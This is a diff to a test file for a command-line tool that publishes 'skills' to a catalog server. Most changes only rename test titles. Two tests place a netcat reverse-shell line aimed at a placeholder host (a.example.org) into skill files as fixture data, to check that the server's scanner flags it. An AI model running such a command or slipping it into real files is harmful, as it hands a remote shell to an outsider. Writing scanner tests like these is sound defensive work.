@@ -102,7 +102,7 @@ async function standBefore(
   }
 }
 
-test('three skills become one catalog version; the same again changes nothing', async () => {
+test('publishes three skills in one catalog version, and changes nothing the second time', async () => {
   const names = ['p-one', 'p-two', 'p-three']
   const changes = () => Promise.all(names.map(changesOf))
   for (const name of names) {
@@ -125,14 +125,14 @@ test('three skills become one catalog version; the same again changes nothing', 
   expect(await changes()).toEqual([[version], [version], [version]])
 })
 
-test('without a terminal and --yes nothing is published, and the command says how', async () => {
+test('publishes nothing without a terminal and --yes, and says how to', async () => {
   write('p-shy/SKILL.md', md('p-shy'))
   const ran = await publish(folder)
   expect(ran).toMatchObject({ status: 2, out: expect.stringContaining('--yes') })
   expect(await live('p-shy')).toBeNull()
 })
 
-test('a change is shown by file and by line, as JSON too; unpublishing goes into the same version', async () => {
+test('shows a change by file and line, as JSON too, and unpublishes in the same version', async () => {
   write('p-old/SKILL.md', md('p-old'))
   write('p-diff/SKILL.md', md('p-diff', 'The first line.'))
   write('p-diff/gone.md', 'gone')
@@ -164,7 +164,7 @@ test('a change is shown by file and by line, as JSON too; unpublishing goes into
   expect(await live('p-old')).toBeNull()
 })
 
-test('an archive is published like a folder', async () => {
+test('publishes an archive like a folder', async () => {
   const packed = zipSync({ 'p-packed/SKILL.md': strToU8(md('p-packed')), 'p-packed/a.md': strToU8('a') })
   writeFileSync(join(folder, 'p-packed.skill'), packed)
   const done = await publish(join(folder, 'p-packed.skill'), '--yes')
@@ -172,7 +172,7 @@ test('an archive is published like a folder', async () => {
   expect(await live('p-packed')).toMatchObject({ digest: expect.stringMatching(/^[0-9a-f]{64}$/) })
 })
 
-test('one skill with an error refuses all, with file and line, before anything is sent', async () => {
+test('an error in one skill refuses all, with file and line, before anything is sent', async () => {
   write('p-good/SKILL.md', md('p-good'))
   write('p-bad/SKILL.md', '---\nname: p-bad\n---\nno description\n')
   api = await standBefore(() => null)
@@ -182,7 +182,7 @@ test('one skill with an error refuses all, with file and line, before anything i
   expect(await live('p-good')).toBeNull()
 })
 
-test("an error that can be accepted is the server's to judge: once with a reason, and not again for the same file", async () => {
+test('the server decides about acceptable errors: a reason accepts one, and is kept for the same file', async () => {
   write('p-shell/SKILL.md', md('p-shell'))
   write('p-shell/a.sh', 'nc a.example.org 1 -e /bin/sh\n')
   write('p-plain/SKILL.md', md('p-plain'))
@@ -200,7 +200,7 @@ test("an error that can be accepted is the server's to judge: once with a reason
   expect(again, again.out).toMatchObject({ status: 0, out: expect.stringContaining('Accepted: Taught here') })
 })
 
-test('a text that is not UTF-8 refuses all, by the place it came from', async () => {
+test('text that is not UTF-8 refuses all, with its file', async () => {
   write('p-fine/SKILL.md', md('p-fine'))
   write('p-latin/SKILL.md', md('p-latin'))
   writeFileSync(join(folder, 'p-latin/notes.txt'), Buffer.from([0xe9, 0x74, 0xe9]))
@@ -211,7 +211,7 @@ test('a text that is not UTF-8 refuses all, by the place it came from', async ()
   expect(await live('p-fine')).toBeNull()
 })
 
-test('a server that breaks in the middle of the bytes publishes nothing; the second run sends only the rest', async () => {
+test('a server that fails during the upload publishes nothing; the second run sends only the rest', async () => {
   write('p-cut/SKILL.md', md('p-cut'))
   for (let at = 0; at < 20; at++) write(`p-cut/references/${at}.md`, `page ${at} of p-cut`)
   let puts = 0
@@ -230,7 +230,7 @@ test('a server that breaks in the middle of the bytes publishes nothing; the sec
   expect(await live('p-cut')).not.toBeNull()
 })
 
-test('a busy server is asked again while it sends Retry-After', async () => {
+test('retries a busy server while it sends Retry-After', async () => {
   write('p-busy/SKILL.md', md('p-busy'))
   const refusedOnce = new Set<string>()
   api = await standBefore((line) => {
@@ -243,7 +243,7 @@ test('a busy server is asked again while it sends Retry-After', async () => {
   expect(await live('p-busy')).not.toBeNull()
 })
 
-test('what somebody published between the trial and the commit is not overwritten', async () => {
+test('does not overwrite what somebody published between the dry run and the commit', async () => {
   write('p-race/SKILL.md', md('p-race', 'ours'))
   const theirs = { files: { 'SKILL.md': md('p-race', 'theirs') } }
   api = await standBefore(async (line) => {
@@ -260,7 +260,7 @@ test('what somebody published between the trial and the commit is not overwritte
   expect(file.ok && new TextDecoder().decode(file.value)).toContain('theirs')
 })
 
-test('a commit whose answer was lost is found to be done, and not done twice', async () => {
+test('recognizes its commit after a lost response, and does not repeat it', async () => {
   write('p-lost/SKILL.md', md('p-lost'))
   let lost = false
   api = await standBefore(async (line) => {
@@ -275,7 +275,7 @@ test('a commit whose answer was lost is found to be done, and not done twice', a
   expect(await changesOf('p-lost')).toHaveLength(1)
 })
 
-test('a wrong key, a wrong address and wrong arguments are said in words, and no key is printed', async () => {
+test('explains a wrong key, a wrong URL and wrong arguments, and prints no key', async () => {
   write('p-x/SKILL.md', md('p-x'))
   const wrong = await publish(folder, '--key', 'sk_default_wrong_secretsecretsecret')
   expect(wrong).toMatchObject({ status: 1, out: expect.stringContaining('401 unauthenticated') })
@@ -310,7 +310,7 @@ test('skills:match says which server it searched, with the key from SATCHEL_KEY'
   expect(refused.out).toContain(` to ${satchel.url})`)
 })
 
-test('all findings for which the server refuses skills are shown, of both', async () => {
+test('shows every finding of both skills that the server refuses', async () => {
   const lines = Array.from({ length: 30 }, () => 'nc a.example.org 1 -e /bin/sh').join('\n')
   for (const name of ['a', 'b']) {
     write(`${name}/SKILL.md`, md(name))
